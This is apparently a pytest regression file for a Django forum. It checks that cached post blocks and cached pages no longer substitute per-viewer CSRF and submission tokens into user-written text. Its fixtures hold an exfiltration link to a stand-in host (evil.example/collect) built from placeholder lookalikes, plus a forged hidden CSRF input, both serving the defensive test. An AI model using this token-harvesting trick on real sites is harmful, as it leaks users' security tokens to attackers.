"""Per-request values are filled in only where the templates put them (issue 17, item 17).

Cached post blocks (forum/fragments.py) and cached anonymous pages (website/page_cache.py) keep
a slot for each viewer's own values (CSRF token, comment submission token and stamp, CSP nonce).
They used to be fixed placeholder strings replaced everywhere in the HTML, so an answer linking
to `https://evil.example/?t=__dalil_fragment_csrf__` received each viewer's CSRF token in its
link. User text must come out exactly as written, however it imitates those slots.
"""

import re

import pytest
from bs4 import BeautifulSoup
from django.test import Client
from django.utils import translation

from forum import services
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db

TRAPS = [
    "__dalil_fragment_csrf__",
    "__dalil_fragment_submission__",
    "__dalil_fragment_rendered_at__",
    "__dalil_csrf_token__",
]
TRAP_LINK = "https://evil.example/collect?" + "&".join(
    f"v{number}={trap}" for number, trap in enumerate(TRAPS)
)
# Looks like the CSRF field the page cache used to find with a regular expression.
FAKE_FIELD = '<input type="hidden" name="csrfmiddlewaretoken" value="attacker-chosen">'
BODY = (
    f"Open [the diagnostics page]({TRAP_LINK}) and compare.\n\n"
    + "".join(f"`{trap}` " for trap in TRAPS)
    + f"\n\n`{FAKE_FIELD}`\n\nThat is all it takes to check the line."
)


@pytest.fixture(autouse=True)
def _english():
    with translation.override("en"):
        yield


@pytest.fixture
def thread(customer, other_customer, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        question = services.create_question(
            actor=customer,
            title="Fibre internet drops every evening",
            body="My home fibre drops every evening around eight. What should I check first?",
            language="en",
        )
        answer = services.create_answer(actor=other_customer, question=question, body=BODY)
    return question, answer


@pytest.fixture
def third_party(db):
    return UserFactory(display_name="Third Person")


def _answer_body(html: str, answer) -> BeautifulSoup:
    soup = BeautifulSoup(html, "html.parser")
    return soup.select_one(f"#answer-{answer.pk} .post-body")


def _assert_written_as_posted(html: str, answer) -> None:
    body = _answer_body(html, answer)
    assert body.find("a")["href"] == TRAP_LINK
    codes = [code.get_text() for code in body.find_all("code")]
    assert codes == [*TRAPS, FAKE_FIELD]


def test_a_cached_post_block_leaves_placeholder_lookalikes_in_user_text_alone(
    thread, customer, third_party
):
    question, answer = thread
    for viewer in (customer, third_party, third_party):  # the block comes from the cache
        client = Client()
        client.force_login(viewer)
        html = client.get(question.get_absolute_url()).content.decode()
        _assert_written_as_posted(html, answer)
        # The template's own slots still carry this viewer's values.
        token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', html).group(1)
        assert len(token) == 64 and token not in str(_answer_body(html, answer))
        assert "dalilslot" not in html


def test_a_cached_anonymous_page_leaves_placeholder_lookalikes_in_user_text_alone(thread):
    question, answer = thread
    first = Client().get(question.get_absolute_url())
    second = Client().get(question.get_absolute_url())
    assert (first["X-Page-Cache"], second["X-Page-Cache"]) == ("miss", "hit")
    for response in (first, second):
        _assert_written_as_posted(response.content.decode(), answer)
        assert "dalilcsrf" not in response.content.decode()
    assert "csrftoken" not in second.cookies  # nothing on the page asked for a token
